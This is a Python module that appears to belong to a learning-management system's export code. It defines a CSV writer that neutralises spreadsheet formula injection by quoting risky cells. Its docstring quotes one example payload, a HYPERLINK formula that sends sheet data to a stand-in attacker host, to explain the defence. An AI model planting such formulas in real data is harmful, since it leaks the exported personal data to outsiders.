"""The one CSV writer behind every export, so that no cell can turn against whoever opens the
file in a spreadsheet.

Excel, LibreOffice and Google Sheets run a cell that begins with = + - or @ as a formula, and
a tab or carriage return in front lets one through too: a person who names themselves
`=HYPERLINK("https://evil.example?"&A1, "Click")` would otherwise plant a link that sends
the sheet's data away. Every text cell that begins with one of those characters is prefixed
with a single quote, OWASP's rule, which spreadsheets show as text. Numbers the LMS writes
are passed as numbers and are written as they are; its dates and times begin with a digit,
so they never need the quote.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from flask import Response, stream_with_context

FORMULA_STARTS = frozenset("=+-@\t\r")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet must show it: text that would run as a formula is quoted."""
    if value.__class__ is str and value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


def number(value: float) -> int | float:
    """A number as the LMS shows it: 100, not 100.0."""
    return int(value) if float(value).is_integer() else value


class CsvWriter:
    """Rows in, CSV text out in chunks (for a streamed response or a file)."""

    def __init__(self) -> None:
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, lineterminator="\n")

    def row(self, values: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in values])

    def rows(self, rows: Iterable[Iterable[Any]]) -> None:
        # safe_cell's rule, inlined: the compliance CSV passes every row of the organisation here.
        starts = FORMULA_STARTS
        self._writer.writerows(
            [v if v.__class__ is not str or not v or v[0] not in starts else "'" + v for v in row] for row in rows
        )

    def take(self) -> str:
        """The text written since the last take."""
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text


def download(chunks: Iterable[str], filename: str) -> Response:
    """A CSV streamed as an attachment. It holds personal data, so no browser or proxy keeps a
    copy (`no-store`)."""
    return Response(
        stream_with_context(chunks),
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"},
    )
